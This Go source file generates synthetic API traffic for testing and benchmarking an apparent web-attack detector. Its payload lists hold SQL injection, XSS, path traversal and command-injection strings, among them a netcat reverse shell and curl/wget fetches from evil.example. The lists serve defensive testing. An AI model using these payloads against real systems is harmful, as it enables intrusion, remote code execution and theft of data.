package detect

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"

	"github.com/apisessions/apisessions"
)

// A generated corpus of realistic API traffic with attacks mixed in, for
// the parity test and the benchmark. Deterministic for a seed.

var (
	resources = []string{"users", "orders", "products", "invoices", "carts", "sessions", "accounts", "payments", "shipments", "reviews"}
	words     = []string{"alpha", "blue", "coffee", "delivery", "express", "fresh", "green", "house", "item", "jacket", "kitchen", "lamp", "market", "north", "office", "paper", "quick", "river", "summer", "table", "union", "valley", "winter", "yellow", "zone", "select", "order", "from", "update", "drop", "script", "alert", "exec", "system", "cat", "where", "and", "or", "not", "null", "true", "like", "sleep", "file", "http", "java", "class", "data", "eval"}
	statuses  = []string{"active", "pending", "shipped", "cancelled", "refunded", "draft"}
	sorts     = []string{"name", "-created_at", "price", "updated_at", "id", "-score"}
	agents    = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
		"okhttp/4.12.0", "python-requests/2.32.3", "MyShopApp/3.4.1 (Android 14; Pixel 8)", "axios/1.7.2",
	}
	sqli = []string{"1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "'; DROP TABLE users; --", "1 AND SLEEP(5)", "admin'--", "1' AND extractvalue(1,concat(0x7e,version()))--", "-1 or 1=1"}
	xss  = []string{"<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)", "\"><svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>"}
	rce  = []string{"; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://evil.example/x.sh|sh)", "`id`", "; wget http://evil.example/a -O /tmp/a"}
	trav = []string{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/hosts", "..\\..\\windows\\win.ini", "/etc/passwd"}
)

type corpusGen struct{ r *rand.Rand }

func newCorpus(seed uint64) *corpusGen { return &corpusGen{r: rand.New(rand.NewPCG(seed, 42))} }

func (g *corpusGen) pick(xs []string) string { return xs[g.r.IntN(len(xs))] }

func (g *corpusGen) uuid() string {
	return fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", g.r.Uint32(), g.r.IntN(1<<16), g.r.IntN(1<<12), g.r.IntN(1<<12), g.r.Uint64()&(1<<48-1))
}

func (g *corpusGen) sentence(n int) string {
	ws := make([]string, n)
	for i := range ws {
		ws[i] = g.pick(words)
	}
	s := strings.Join(ws, " ")
	return strings.ToUpper(s[:1]) + s[1:] + "."
}

// value is a benign parameter value of some common API kind.
func (g *corpusGen) value() string {
	switch g.r.IntN(12) {
	case 0:
		return fmt.Sprint(g.r.IntN(100000))
	case 1:
		return g.uuid()
	case 2:
		return g.pick(words) + "." + g.pick(words) + "@example.com"
	case 3:
		return fmt.Sprintf("2026-%02d-%02dT%02d:%02d:00Z", 1+g.r.IntN(12), 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60))
	case 4:
		return g.pick(statuses)
	case 5:
		return g.pick(sorts)
	case 6:
		return g.pick(words) + " " + g.pick(words)
	case 7:
		return fmt.Sprint(g.r.IntN(2) == 0)
	case 8:
		return g.pick(statuses) + "," + g.pick(statuses)
	case 9:
		return fmt.Sprintf("%.2f", g.r.Float64()*1000)
	case 10:
		return "https://cdn.example.com/img/" + g.pick(words) + ".png"
	}
	return g.pick(words)
}

func (g *corpusGen) headers() apisessions.Headers {
	h := apisessions.Headers{
		{Name: "Host", Value: "api.example.com"},
		{Name: "User-Agent", Value: g.pick(agents)},
		{Name: "Accept", Value: "application/json"},
		{Name: "Accept-Encoding", Value: "gzip, deflate, br"},
		{Name: "Accept-Language", Value: "en-US,en;q=0.9"},
		{Name: "X-Request-ID", Value: g.uuid()},
		{Name: "Authorization", Value: "Bearer eyJhbGciOiJIUzI1NiJ9." + base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprintf(`{"sub":"%d","exp":%d}`, g.r.IntN(1e6), 1.8e9+g.r.IntN(1e6)))) + ".c2lnbmF0dXJl"},
	}
	if g.r.IntN(3) == 0 {
		h = append(h, apisessions.Header{Name: "Cookie", Value: "sid=" + g.uuid() + "; theme=dark; lang=en"})
	}
	return h
}

// benignGET is a GET with 5 to 10 query parameters.
func (g *corpusGen) benignGET() *apisessions.Exchange {
	n := 5 + g.r.IntN(6)
	q := url.Values{}
	for i := 0; i < n; i++ {
		q.Set(fmt.Sprintf("%s_%d", g.pick([]string{"id", "page", "size", "sort", "status", "q", "from", "to", "lang", "filter", "fields", "tag"}), i), g.value())
	}
	return &apisessions.Exchange{ClientIP: "203.0.113.7", Request: apisessions.Request{
		Method: "GET", URL: fmt.Sprintf("/api/v1/%s/%d?%s", g.pick(resources), g.r.IntN(1e5), q.Encode()), Headers: g.headers(),
	}}
}

// jsonBody is an object of about size bytes.
func (g *corpusGen) jsonBody(size int) map[string]any {
	obj := map[string]any{"id": g.uuid(), "status": g.pick(statuses), "email": g.value(), "created_at": g.value()}
	var items []any
	for n := 0; ; n++ {
		b, _ := json.Marshal(obj)
		if len(b) >= size {
			break
		}
		items = append(items, map[string]any{"sku": fmt.Sprintf("SKU-%06d", g.r.IntN(1e6)), "qty": g.r.IntN(9) + 1, "price": g.r.Float64() * 100, "note": g.sentence(3 + g.r.IntN(6)), "gift": g.r.IntN(2) == 0})
		obj["items"] = items
		if n%3 == 2 {
			obj["comment"] = g.sentence(8 + g.r.IntN(10))
		}
	}
	return obj
}

// benignJSON is a POST or PUT with a 0.5 to 4 KB JSON body.
func (g *corpusGen) benignJSON() *apisessions.Exchange {
	body, _ := json.Marshal(g.jsonBody(500 + g.r.IntN(3500)))
	h := append(g.headers(), apisessions.Header{Name: "Content-Type", Value: "application/json"}, apisessions.Header{Name: "Content-Length", Value: fmt.Sprint(len(body))})
	return &apisessions.Exchange{ClientIP: "203.0.113.7", Request: apisessions.Request{
		Method: g.pick([]string{"POST", "PUT"}), URL: fmt.Sprintf("/api/v1/%s/%d", g.pick(resources), g.r.IntN(1e5)), Headers: h, Body: body,
	}}
}

// attack puts one payload in one place (query, JSON body, form, header,
// cookie), URL-, base64- or JSON-escaped.
func (g *corpusGen) attack() *apisessions.Exchange {
	payload := g.pick([][]string{sqli, xss, rce, trav}[g.r.IntN(4)])
	if g.r.IntN(6) == 0 {
		payload = base64.StdEncoding.EncodeToString([]byte(payload))
	}
	var ex *apisessions.Exchange
	switch g.r.IntN(5) {
	case 0: // query
		ex = g.benignGET()
		esc := url.QueryEscape(payload)
		if g.r.IntN(2) == 0 {
			esc = strings.ReplaceAll(url.PathEscape(payload), "&", "%26")
		}
		ex.Request.URL += "&x=" + esc
	case 1: // JSON body, escaped by the encoder (<, >, & become \u003c ...)
		obj := g.jsonBody(600)
		obj["comment"] = payload
		body, _ := json.Marshal(obj)
		ex = &apisessions.Exchange{ClientIP: "198.51.100.9", Request: apisessions.Request{Method: "POST", URL: "/api/v1/reviews", Headers: append(g.headers(), apisessions.Header{Name: "Content-Type", Value: "application/json"}), Body: body}}
	case 2: // form
		body := "login=" + url.QueryEscape(g.pick(words)) + "&q=" + url.QueryEscape(payload)
		ex = &apisessions.Exchange{ClientIP: "198.51.100.9", Request: apisessions.Request{Method: "POST", URL: "/login", Headers: append(g.headers(), apisessions.Header{Name: "Content-Type", Value: "application/x-www-form-urlencoded"}), Body: []byte(body)}}
	case 3: // header
		ex = g.benignGET()
		ex.Request.Headers = append(ex.Request.Headers, apisessions.Header{Name: "X-Forwarded-Host", Value: payload})
	default: // cookie
		ex = g.benignGET()
		ex.Request.Headers = append(ex.Request.Headers, apisessions.Header{Name: "Cookie", Value: "pref=" + url.QueryEscape(payload)})
	}
	return ex
}

// mix is the benchmark mix: 70% GET, 25% JSON POST/PUT, 5% attacks.
func (g *corpusGen) mix(n int) []*apisessions.Exchange {
	out := make([]*apisessions.Exchange, n)
	for i := range out {
		switch x := g.r.IntN(100); {
		case x < 70:
			out[i] = g.benignGET()
		case x < 95:
			out[i] = g.benignJSON()
		default:
			out[i] = g.attack()
		}
	}
	return out
}

func mustJSON(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}
